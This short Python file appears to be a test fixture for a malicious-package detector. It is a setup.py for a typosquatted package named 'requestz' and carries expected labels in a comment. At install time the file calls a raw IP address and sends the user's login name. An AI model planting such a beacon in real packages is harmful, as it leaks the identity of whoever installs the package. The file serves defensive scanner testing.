# ruff: noqa
# fmt: off
"""Held-out: install-time beacon in setup.py, no cmdclass."""
import os
import urllib.request
from setuptools import setup

urllib.request.urlopen("http://45.33.32.156/i?u=" + os.getlogin())  # expect: install-hook, exfiltrate-sensitive-data, raw-ip-url
setup(name="requestz", version="2.31.0")
